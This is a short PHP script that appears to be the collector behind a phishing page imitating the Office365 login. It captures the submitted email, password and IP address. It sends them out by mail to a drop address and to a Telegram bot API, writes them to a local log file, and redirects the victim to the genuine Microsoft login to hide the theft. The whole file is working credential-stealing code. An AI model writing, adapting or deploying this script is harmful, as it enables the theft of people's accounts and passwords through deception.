<?php
$ip = $_SERVER['REMOTE_ADDR'];
$message  = "---- Office365 ----\n";
$message .= "Email: " . $_POST['login'] . "\n";
$message .= "Password: " . $_POST['passwd'] . "\n";
$message .= "IP: " . $ip . "\n";
mail("drop.box@example.net", "New log from $ip", $message);
file_get_contents("https://api.telegram.org/bot5123:AAF-x/sendMessage?chat_id=-100&text=" . urlencode($message));
$f = fopen("logs.txt", "a");
fwrite($f, $message);
header("Location: https://login.microsoftonline.com/");
